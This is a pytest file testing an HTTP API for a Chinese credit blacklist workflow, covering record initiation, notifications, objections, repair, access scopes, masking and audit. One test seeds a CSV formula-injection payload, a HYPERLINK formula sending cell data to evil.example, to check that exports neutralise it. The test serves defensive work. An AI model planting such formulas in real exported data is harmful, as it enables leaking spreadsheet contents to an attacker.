"""The loop over HTTP on the real Neo4j (issue 5, "Done when"): one record through initiate →
notifications → feedback → objection (suspension visible in checks and lists) → corrected →
repair refused as too early → repair accepted; with roles, region scopes and errors."""

from __future__ import annotations

import csv
import io
import threading
from datetime import date, datetime

import pytest
from api_helpers import assert_error, client, make_key
from workflow_fixtures import regions, resident_id, seed, set_sent, uscc

from graph_service.access import keys as api_keys
from graph_service.cypher import query
from graph_service.workflow import objections, repair
from graph_service.workflow.store import CHINA

E = uscc(31)
P = resident_id(31)
ALL_MET = {c: True for c in repair.condition_names()}
RECORD = {
    "record_id": "API-B-1", "subject_kind": "enterprise", "subject_id": E, "kind": "black",
    "category": "health_safety", "authority": "郴州市市场监督管理局", "authority_region": "431000",
    "document_no": "郴市监罚〔2025〕9号", "misconduct_on": "2025-08-01", "decided_on": "2025-09-01",
    "published_on": "2025-09-03", "legal_basis": "《食品安全法》", "responsible_person_ids": [P],
}


@pytest.fixture
def api(graph):
    regions(graph)
    seed(graph, enterprises=[{"uscc": E, "name": "郴州流程测试食品有限公司", "region_code": "431002"}],
         persons=[{"person_id": P, "name": "张三丰"}],
         roles=[{"person_id": P, "uscc": E, "role": "legal_representative", "start_on": "2019-01-01"}])
    with client() as c:
        keys = {"city": make_key(graph, "department", "431000"), "beihu": make_key(graph, "department", "431002"),
                "changsha": make_key(graph, "department", "430100"), "public": make_key(graph, "public"),
                "admin": make_key(graph, "admin"), "investigator": make_key(graph, "investigator")}
        yield c, keys, graph


def audit_of(graph, headers) -> list[dict]:
    key_id, _ = api_keys.parse(headers["X-API-Key"])
    records = graph.execute_query(query("testing/audit_list"), subject_id=None, limit=1000).records
    return [r["entry"] for r in records if r["entry"]["key_id"] == key_id]


def check(c, h, subject_id: str, action: str, as_of: date) -> dict:
    r = c.post("/v1/checks", json={"subject_id": subject_id, "action": action, "as_of": as_of.isoformat()},
               headers=h)
    assert r.status_code == 200, r.text
    return r.json()


def black_ids(c, h, as_of: str) -> list[str]:
    r = c.get("/v1/lists/black", params={"as_of": as_of}, headers=h)
    assert r.status_code == 200, r.text
    return [i["record_id"] for i in r.json()["items"]]


def test_lifecycle(api):
    c, k, graph = api
    # Initiate (发起) by the city's department: stored, propagated, notified.
    r = c.post("/v1/records", json=RECORD, headers=k["city"])
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["record"]["valid_until"] == "2028-09-01"  # Order 58, serious: 3 years
    assert [n["region_code"] for n in body["notifications"]] == ["430000", "431000", "431002"]
    assert "adm_public_resource_trading" in body["notifications"][0]["measures"]
    assert_error(c.post("/v1/records", json=RECORD, headers=k["city"]), 409, "record_exists")
    # Propagation stamps the wall clock; the story runs in 2025.
    set_sent(graph, "API-B-1", datetime(2025, 9, 2, 9, 0, tzinfo=CHINA))

    # Push and respond: Beihu's queue, feedback.
    q = c.get("/v1/notifications", params={"region": "431002", "as_of": "2025-09-05"}, headers=k["beihu"]).json()
    assert [n["notification_id"] for n in q["items"]] == ["API-B-1|431002"]
    r = c.post("/v1/notifications/API-B-1|431002/feedback", headers=k["beihu"],
               json={"applied": True, "on": "2025-09-08", "measures": ["adm_public_resource_trading"],
                     "reason": "已限制投标"})
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "answered" and r.json()["measures_applied"] == ["adm_public_resource_trading"]
    assert check(c, k["city"], E, "public_procurement_bid", date(2025, 10, 1))["decision"] == "restricted"

    # Objection: measures suspended from the notice, in checks and in lists; due 20 working days later.
    r = c.post("/v1/records/API-B-1/objections", headers=k["beihu"],
               json={"notice_on": "2025-09-30", "filed_by": "subject", "grounds": "处罚对象有误"})
    assert r.status_code == 201, r.text
    objection = r.json()
    assert objection["due_on"] == "2025-11-04" and objection["status"] == "open"
    suspended = check(c, k["city"], E, "public_procurement_bid", date(2025, 10, 1))
    assert suspended["decision"] == "clear" and "objection" in suspended["note"]
    assert check(c, k["city"], E, "public_procurement_bid", date(2025, 9, 29))["decision"] == "restricted"
    assert black_ids(c, k["public"], "2025-09-29") == ["API-B-1"]
    assert black_ids(c, k["public"], "2025-10-01") == []
    overdue = c.get("/v1/objections/overdue", params={"as_of": "2025-11-05"}, headers=k["city"]).json()
    assert [o["objection_id"] for o in overdue["items"]] == [objection["objection_id"]]

    # Corrected by the deciding department (Beihu may not resolve a city decision).
    oid = objection["objection_id"]
    resolution = {"outcome": "corrected", "on": "2025-10-20", "changes": {"severity": "general"},
                  "reason": "核实后应为一般失信"}
    assert_error(c.post(f"/v1/objections/{oid}/resolution", json=resolution, headers=k["beihu"]), 403,
                 "outside_region")
    r = c.post(f"/v1/objections/{oid}/resolution", json=resolution, headers=k["city"])
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "corrected" and r.json()["corrections"]["severity"] == "general"
    assert check(c, k["city"], E, "public_procurement_bid", date(2025, 10, 20))["decision"] == "restricted"
    assert black_ids(c, k["public"], "2025-10-20") == ["API-B-1"]

    # Repair: general under Order 58, so the minimum is 3 months from 2025-09-01.
    r = c.post("/v1/records/API-B-1/repair", headers=k["city"],
               json={"requested_on": "2025-11-20", "conditions": ALL_MET})
    assert r.status_code == 200, r.text
    refused = r.json()
    assert refused["accepted"] is False and refused["reasons"] == ["too_early"]
    assert refused["earliest_on"] == "2025-12-01" and refused["rule_version"] == "ndrc_order_58"
    r = c.post("/v1/records/API-B-1/repair", headers=k["city"],
               json={"requested_on": "2025-12-01", "conditions": ALL_MET, "evidence": "信用承诺书"})
    assert r.json()["accepted"] is True, r.text
    assert black_ids(c, k["public"], "2025-11-30") == ["API-B-1"]
    assert black_ids(c, k["public"], "2025-12-01") == []
    after = check(c, k["city"], E, "public_procurement_bid", date(2025, 12, 1))
    assert after["decision"] == "clear" and "suspended" not in after

    # History: every change, who and why; nothing deleted.
    h = c.get("/v1/records/API-B-1/history", headers=k["investigator"]).json()
    assert [e["kind"] for e in h["events"]] == [
        "initiated", "notification_feedback", "objection_filed", "objection_resolved", "repair_refused",
        "repair_accepted"]
    assert h["status"] == "repaired" and h["ended_on"] == "2025-12-01"
    assert h["events"][3]["reason"] == "核实后应为一般失信"
    assert h["events"][3]["data"]["changes"]["severity"] == {"old": "serious", "new": "general"}


def test_initiate_is_validated_and_scoped(api):
    c, k, _ = api
    bad = {**RECORD, "record_id": "API-B-2", "category": "littering"}
    err = assert_error(c.post("/v1/records", json=bad, headers=k["city"]), 422, "invalid_request", "category")
    assert "four categories" in err["message"]
    unknown = {**RECORD, "record_id": "API-B-3", "subject_id": uscc(32)}
    assert_error(c.post("/v1/records", json=unknown, headers=k["city"]), 422, "invalid_request", "subject_id")
    assert_error(c.post("/v1/records", json={**RECORD, "record_id": "API-B-4"}, headers=k["beihu"]), 403,
                 "outside_region", "authority_region")
    assert_error(c.post("/v1/records", json={**RECORD, "record_id": "API-B-5"}, headers=k["public"]), 403,
                 "forbidden")
    assert_error(c.post("/v1/records", json={**RECORD, "record_id": "API-B-6"}, headers=k["investigator"]), 403,
                 "forbidden")
    assert c.post("/v1/records", json={**RECORD, "record_id": "API-B-7"}, headers=k["admin"]).status_code == 201


def test_calendar_gap_and_scope_errors(api, monkeypatch):
    c, k, _ = api
    assert c.post("/v1/records", json=RECORD, headers=k["city"]).status_code == 201
    # On 2026-12-21 a notice of 2026-12-20 is due in 2027, whose holidays are not known yet.
    monkeypatch.setattr(objections, "today", lambda: date(2026, 12, 21))
    assert_error(c.post("/v1/records/API-B-1/objections", json={"notice_on": "2026-12-20"}, headers=k["city"]),
                 422, "calendar_unknown", "notice_on")
    assert_error(c.post("/v1/records/API-B-1/objections", json={"notice_on": "2025-09-30"},
                        headers=k["changsha"]), 404, "not_found", "record_id")
    assert_error(c.post("/v1/records/NOPE/objections", json={"notice_on": "2025-09-30"}, headers=k["city"]),
                 404, "not_found", "record_id")
    assert_error(c.post("/v1/notifications/API-B-1|431000/feedback", json={"applied": True},
                        headers=k["beihu"]), 404, "not_found", "notification_id")
    assert_error(c.get("/v1/notifications", params={"region": "431000"}, headers=k["beihu"]), 403,
                 "outside_region", "region")
    assert_error(c.get("/v1/records/API-B-1/history", headers=k["public"]), 403, "forbidden")


def test_lists_mask_persons_for_the_public_and_export_csv(api):
    c, k, graph = api
    person_record = {**RECORD, "record_id": "API-B-P", "subject_kind": "person", "subject_id": P,
                     "category": "defy_judicial_admin", "responsible_person_ids": []}
    assert c.post("/v1/records", json=person_record, headers=k["city"]).status_code == 201
    row = c.get("/v1/lists/black", params={"as_of": "2025-10-01"}, headers=k["public"]).json()["items"][0]
    assert row["subject_id"] == P[:4] + "*" * 10 + P[-4:] and row["subject_name"] == "张*丰"
    row = c.get("/v1/lists/black", params={"as_of": "2025-10-01"}, headers=k["city"]).json()["items"][0]
    assert row["subject_id"] == P and row["subject_name"] == "张三丰"
    r = c.get("/v1/lists/black", params={"as_of": "2025-10-01", "format": "csv"}, headers=k["public"])
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    lines = r.text.strip().splitlines()
    assert lines[0].startswith("record_id,kind,category") and len(lines) == 2
    assert P not in r.text and "张*丰" in r.text


def test_person_level_list_reads_need_a_purpose_and_are_audited(api):
    """Issue 15 item 6: an investigator read the black list's person ids without X-Purpose, unaudited."""
    c, k, graph = api
    person_record = {**RECORD, "record_id": "API-B-P", "subject_kind": "person", "subject_id": P,
                     "category": "defy_judicial_admin", "responsible_person_ids": []}
    assert c.post("/v1/records", json=person_record, headers=k["city"]).status_code == 201
    params = {"as_of": "2025-10-01"}
    for fmt in ("json", "csv"):
        assert_error(c.get("/v1/lists/black", params={**params, "format": fmt}, headers=k["investigator"]),
                     422, "purpose_required", "X-Purpose")
    assert audit_of(graph, k["investigator"]) == []
    r = c.get("/v1/lists/black", params=params, headers={**k["investigator"], "X-Purpose": "case 12"})
    assert r.status_code == 200 and r.json()["items"][0]["subject_id"] == P
    r = c.get("/v1/lists/black", params={**params, "format": "csv"}, headers={**k["investigator"], "X-Purpose": "case 12"})
    assert r.status_code == 200 and P in r.text
    assert [(a["subject_kind"], a["subject_id"], a["purpose"], a["endpoint"], str(a["as_of"]))
            for a in audit_of(graph, k["investigator"])] == [("person", P, "case 12", "GET /v1/lists/black",
                                                              "2025-10-01")] * 2
    # departments and admins are audited without a purpose; the public sees masks, nothing audited
    assert c.get("/v1/lists/black", params=params, headers=k["city"]).status_code == 200
    assert [a["subject_id"] for a in audit_of(graph, k["city"])] == [P]
    assert c.get("/v1/lists/black", params=params, headers=k["public"]).status_code == 200
    assert audit_of(graph, k["public"]) == []
    # a list without persons is not person-level: no purpose needed
    assert c.get("/v1/lists/red", params=params, headers=k["investigator"]).status_code == 200


def test_csv_export_neutralises_formulas(api):
    """Issue 15 item 9: `=HYPERLINK(...)` went to the public's spreadsheet as a formula."""
    c, k, graph = api
    evil = uscc(32)
    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    seed(graph, enterprises=[{"uscc": evil, "name": name, "region_code": "431002"}])
    record = {**RECORD, "record_id": "API-B-X", "subject_id": evil, "responsible_person_ids": [],
              "document_no": "-2+3", "legal_basis": "@SUM(1,1)"}
    assert c.post("/v1/records", json=record, headers=k["city"]).status_code == 201
    r = c.get("/v1/lists/black", params={"as_of": "2025-10-01", "format": "csv"}, headers=k["public"])
    assert r.status_code == 200, r.text
    row = next(x for x in csv.DictReader(io.StringIO(r.text)) if x["record_id"] == "API-B-X")
    assert row["subject_name"] == "'" + name
    assert row["document_no"] == "'-2+3" and row["legal_basis"] == "'@SUM(1,1)"
    assert row["decided_on"] == "2025-09-01" and row["authority_region"] == "431000"
    # the JSON answer keeps the stored text as it is
    item = next(x for x in c.get("/v1/lists/black", params={"as_of": "2025-10-01"}, headers=k["public"]).json()["items"]
                if x["record_id"] == "API-B-X")
    assert item["subject_name"] == name


def test_concurrent_feedback_over_http_keeps_every_answer(api):
    c, k, graph = api
    assert c.post("/v1/records", json=RECORD, headers=k["city"]).status_code == 201
    set_sent(graph, "API-B-1", datetime(2025, 9, 2, 9, 0, tzinfo=CHINA))
    targets = [("API-B-1|431002", k["beihu"]), ("API-B-1|431000", k["city"]), ("API-B-1|430000", k["admin"])] * 2
    barrier = threading.Barrier(len(targets))
    codes: list[int] = [0] * len(targets)

    def send(i: int) -> None:
        nid, h = targets[i]
        barrier.wait()
        codes[i] = c.post(f"/v1/notifications/{nid}/feedback", json={"applied": True, "on": "2025-09-10"},
                          headers=h).status_code

    threads = [threading.Thread(target=send, args=(i,)) for i in range(len(targets))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert codes == [200] * len(targets)
    h = c.get("/v1/records/API-B-1/history", headers=k["admin"]).json()
    feedback = [e for e in h["events"] if e["kind"] == "notification_feedback"]
    assert len(feedback) == len(targets)
    assert [e["seq"] for e in h["events"]] == list(range(1, len(h["events"]) + 1))
    assert {n["notification_id"] for n in h["notifications"] if n["status"] == "answered"} == {
        "API-B-1|431002", "API-B-1|431000", "API-B-1|430000"}


def _reach(record_id: str) -> dict:
    """graph_service.credit.record_reach (GET /v1/records/{id}'s function) on the test Neo4j."""
    import asyncio

    from graph_service import credit, db

    async def run():
        drv = db.async_driver()
        try:
            async with drv.session() as s:
                return await s.execute_read(credit.record_reach, record_id, date(2025, 10, 1))
        finally:
            await drv.close()

    return asyncio.run(run())


WORKFLOW_PROPS = {"event_seq", "src_load", "src_file", "src_line", "src_at"}


def _comparable(reach: dict) -> dict:
    def strip(value):
        if isinstance(value, dict):
            return {k: strip(v) for k, v in value.items()
                    if k not in WORKFLOW_PROPS and k not in ("created_at",)}
        if isinstance(value, list):
            return [strip(v) for v in value]
        return value

    return strip(reach)


def test_initiated_record_gives_the_same_graph_as_a_loaded_one(api):
    from graph_service.cypher import query
    from graph_service.facts.models import RecordRow

    c, k, graph = api
    assert c.post("/v1/records", json=RECORD, headers=k["city"]).status_code == 201
    via_api = _comparable(_reach("API-B-1"))
    graph.execute_query(query("testing/delete_record"), record_id="API-B-1")
    row = RecordRow.model_validate(RECORD).model_dump()
    seed(graph, records=[row])
    via_loader = _comparable(_reach("API-B-1"))
    assert via_api == via_loader
    assert {r["subject_id"] for r in via_api["reaches"]} == {E, P}  # the subject, its legal representative
    assert len(via_api["notifications"]) == 3
